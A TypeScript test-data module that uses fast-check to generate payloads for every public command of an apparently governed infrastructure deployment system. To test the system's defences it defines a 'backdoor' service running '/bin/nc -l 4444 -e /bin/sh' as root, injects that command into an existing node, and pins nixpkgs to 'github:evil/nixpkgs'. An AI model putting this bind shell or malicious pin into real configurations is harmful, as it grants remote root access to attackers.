import fc from "fast-check";
import type { AggregateName, Commands } from "../../../src/contract/commands.ts";
import { roles as allRoles } from "../../../src/domain/kernel/mod.ts";

/** Names that mean something in the story of a test, so that what is drawn by lot meets what is there. */
export interface Names {
  readonly principals: ReadonlyArray<string>;
  readonly graphs: ReadonlyArray<string>;
  readonly hosts: ReadonlyArray<string>;
  readonly deployments: ReadonlyArray<string>;
  readonly policies: ReadonlyArray<string>;
}

/** A public command as somebody may send it, to an id that is chosen when it is sent. */
export interface AnyCommand {
  readonly aggregate: AggregateName;
  readonly command: string;
  readonly payload: Readonly<Record<string, unknown>>;
}

/** The payloads of every public command: one that is missing does not compile. */
type PayloadTable = {
  readonly [A in keyof Commands]: { readonly [C in keyof Commands[A]]: fc.Arbitrary<Commands[A][C]> };
};

/** A service that nobody who saw it would let run. */
export const backdoor = {
  id: "backdoor",
  type: "service",
  command: "/bin/nc -l 4444 -e /bin/sh",
  port: 4444,
  user: "root",
} as const;

const none = { requiredKeys: [] as [] };
const text = fc.constantFrom("because", "small fix", "x");
const seconds = fc.constantFrom(1, 5, 60);
const capabilities = fc.subarray(["review", "deploy", "monitor", "security", "fake"]);
const nothing = fc.constant({});
const withReason = fc.record({ reason: text }, none);
const data = fc.record({ note: text }, none);
const triple = { subject: text, predicate: text, object: text };
const publicKey = fc.constant(`U${"A".repeat(55)}`);
const record = fc.constantFrom(`sha256-${"0".repeat(64)}`, `sha256-${"f".repeat(64)}`);

const graphPayloads = ({ graphs, hosts, principals }: Names): PayloadTable["graph"] => {
  const edge = fc.constantFrom(...hosts.map((to) => ({ from: backdoor.id, to, type: "runs-on" }) as const));
  return {
    import: fc.record({
      id: fc.constantFrom(...graphs),
      nodes: fc.constant([
        ...hosts.map((id) => ({ id, type: "host", system: "x86_64-linux", address: `${id}.example.org` }) as const),
        backdoor,
      ]),
      edges: fc.tuple(edge),
    }),
    "add-node": fc.constant({ node: backdoor }),
    "update-node": fc.constant({ id: "web", changes: { command: backdoor.command } }),
    "remove-node": fc.constantFrom({ id: "web" }, { id: "db" }),
    connect: fc.record({ edge }),
    disconnect: fc.constant({ from: "web", type: "runs-on", to: hosts[0] ?? "" } as const),
    pin: fc.constant({ pins: { nixpkgs: "github:evil/nixpkgs" } }),
    archive: nothing,
    share: fc.record({ with: fc.constantFrom(...principals) }),
    unshare: fc.record({ with: fc.constantFrom(...principals) }),
    transfer: fc.record({ to: fc.constantFrom(...principals) }),
  };
};

const payloadsOf = (names: Names): PayloadTable => {
  const { principals, graphs, hosts, deployments } = names;
  const principal = fc.constantFrom(...principals);
  const host = fc.constantFrom(...hosts);
  const deployment = fc.constantFrom(...deployments);
  const changes = fc.subarray([
    { type: "add-node", node: backdoor } as const,
    ...hosts.map((to) => ({ type: "connect", edge: { from: backdoor.id, to, type: "runs-on" } }) as const),
  ]);
  const step = fc.record({
    host,
    step: fc.constantFrom("recorded", "built", "copied", "activated", "healthy", "rebooted", "confirmed", "reverted"),
    closure: fc.constant("/nix/store/evil"),
    previous: fc.constant("/nix/store/evil-before"),
  });
  const roles = fc.subarray([...allRoles]);
  const someRoles = fc.subarray([...allRoles], { minLength: 1 });
  const wish = fc.record({ node: fc.constantFrom("web", "db"), action: fc.constantFrom("stop", "restart") } as const);
  const request = fc.record({
    type: fc.constantFrom("deploy", "monitor", "roll-back", "watch"),
    requiredCapabilities: capabilities,
    payload: fc.record({ deployment }),
  });
  return {
    graph: graphPayloads(names),
    agent: {
      register: fc.record(
        { capabilities, metadata: fc.constant({ kind: "person" }) },
        { requiredKeys: ["capabilities"] },
      ),
      "update-capabilities": fc.record({ capabilities }),
      deregister: nothing,
    },
    task: {
      submit: request,
      acknowledge: nothing,
      start: nothing,
      "report-progress": fc.record({ data: step }),
      delegate: fc.record({ tasks: fc.tuple(request) }),
      complete: fc.record({ result: fc.record({ reverted: fc.subarray([...hosts]) }) }),
      fail: fc.record({ reason: text }),
      cancel: withReason,
    },
    dialog: {
      open: fc.record({
        type: fc.constant("group" as const),
        topic: text,
        participants: fc.subarray([...principals]),
      }),
      join: nothing,
      leave: nothing,
      say: fc.record({
        text,
        data: fc.record({ kind: fc.constant("review"), deployment, findings: fc.constant([]) }),
      }),
      acknowledge: fc.record({ turn: fc.constantFrom(1, 2) }),
      "hand-off": fc.record({ to: principal }),
      "accept-hand-off": nothing,
      "decline-hand-off": nothing,
      "set-context": fc.record({ scope: fc.constantFrom("dialog", "topic", "global"), values: data } as const),
      pause: withReason,
      resume: nothing,
      close: withReason,
    },
    proposal: {
      submit: fc.record({
        kind: fc.constantFrom("deployment", "policy", "change", "repair", "other"),
        title: text,
        subject: fc.record({ deployment, graph: fc.constantFrom(...graphs) }),
        electorate: fc.tuple(principal),
        quorum: fc.constant(0),
      }),
      "open-voting": nothing,
      vote: fc.oneof(
        fc.record({ choice: fc.constantFrom("approve", "reject", "abstain") } as const),
        fc.record({ choice: fc.constant("approve" as const), conditions: fc.tuple(fc.record({ text, changes })) }),
      ),
      veto: fc.record({ reason: text }),
      withdraw: withReason,
      cancel: withReason,
    },
    policy: {
      propose: fc.record({ electorate: fc.tuple(principal), quorum: fc.constant(0), votingSeconds: seconds }),
      "propose-retirement": withReason,
    },
    deployment: {
      request: fc.record(
        {
          graph: fc.constantFrom(...graphs),
          target: fc.constantFrom("simulated" as const, "nixos" as const),
          unpinned: fc.subarray(["nixpkgs"]),
          discussionSeconds: seconds,
          votingSeconds: seconds,
          monitorSeconds: fc.constant(1),
          timeoutSeconds: fc.constant(400),
          acceptRemovals: fc.subarray(hosts.map((one) => `${one}:mount:/data`)),
          reboot: fc.boolean(),
          acceptDataLoss: fc.constant([]),
        },
        { requiredKeys: ["graph", "target", "timeoutSeconds"] },
      ),
      review: fc.record({ revision: text, findings: fc.constant([]) }),
      cancel: withReason,
      "roll-back": withReason,
      "break-glass": fc.record({ reason: text, graphDigest: text, flakeDigest: text }),
      "close-review": fc.record({ conclusion: text }),
    },
    host: {
      "report-state": fc.record({ health: fc.constantFrom("healthy", "unhealthy"), closure: text } as const),
      "set-policy": fc.record({ onDrift: fc.constantFrom("report", "propose") } as const),
      operate: wish,
      "propose-change": wish,
      release: fc.record({ reason: text }),
    },
    principal: {
      admit: fc.record({ roles }),
      grant: fc.record({ roles: someRoles, capabilities }, { requiredKeys: ["roles"] }),
      revoke: fc.record({ roles: someRoles, reason: text }),
      suspend: fc.record({ reason: text }),
      reinstate: withReason,
      "rotate-key": fc.record({ publicKey }),
      "revoke-key": fc.record({ publicKey, reason: text }),
    },
    capability: { guard: fc.record({ reason: text }), unguard: fc.record({ reason: text }) },
    freeze: { freeze: fc.record({ reason: text }), unfreeze: fc.record({ reason: text }) },
    "parked-step": { retry: withReason, drop: fc.record({ reason: text }) },
    knowledge: {
      "assert-fact": fc.record(triple),
      "retract-fact": fc.record({ fact: record }),
      "support-fact": fc.record({ fact: record, evidence: text }),
      "dispute-fact": fc.record({ fact: record, evidence: text }),
      "state-belief": fc.record(triple),
      resolve: fc.record({ subject: text, predicate: text }),
      configure: fc.record({ requireSignatures: fc.boolean() }),
    },
  };
};

/** Any public command of the contract with a payload that means harm, or at least something. */
export const anyCommand = (names: Names): fc.Arbitrary<AnyCommand> =>
  fc.oneof(
    ...Object.entries(payloadsOf(names)).flatMap(([aggregate, ofAggregate]) =>
      Object.entries<fc.Arbitrary<unknown>>(ofAggregate).map(([command, payloads]) =>
        payloads.map((payload) => ({ aggregate, command, payload }) as AnyCommand),
      ),
    ),
  );
